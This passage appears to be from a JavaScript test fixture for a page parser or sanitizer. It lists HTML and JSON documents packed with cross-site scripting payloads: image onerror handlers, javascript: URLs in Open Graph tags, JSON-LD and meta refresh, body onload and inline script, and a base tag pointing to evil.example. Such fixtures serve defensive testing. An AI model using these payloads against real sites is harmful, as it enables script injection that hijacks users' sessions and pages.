    '<!doctype html><html><head><title>T</title><meta property="og:title" content="<img src=x onerror=__xss()>"><meta property="og:url" content="javascript:__xss()"><meta property="og:image" content="javascript:__xss()"></head><body></body></html>',
    'text/html',
  ),
  d(
    'html page: article with scripts and handlers',
    '<!doctype html><html><head><title>Page</title><base href="https://evil.example/"></head><body onload="__xss()"><article><h1>Page</h1><p onclick="__xss()">text</p><script>__xss()</script><img src=x onerror=__xss()><a href="login">rel</a></article></body></html>',
    'text/html',
  ),
  d(
    'html page: JSON-LD with javascript: url',
    '<!doctype html><html><head><script type="application/ld+json">{"@type":"NewsArticle","headline":"<svg onload=__xss()>","url":"javascript:__xss()","articleBody":"<img src=x onerror=__xss()>"}</script></head><body></body></html>',
    'text/html',
  ),
  d(
    'html page: meta refresh',
    '<!doctype html><html><head><meta http-equiv="refresh" content="0;url=javascript:__xss()"><title>Refresh</title></head><body><article><p>x</p></article></body></html>',
    'text/html',
  ),
  d('html served as JSON', IMG, 'application/json'),
  d('JSON served as text/plain with markup', js({ headline: IMG, body: IMG }), 'text/plain'),
];
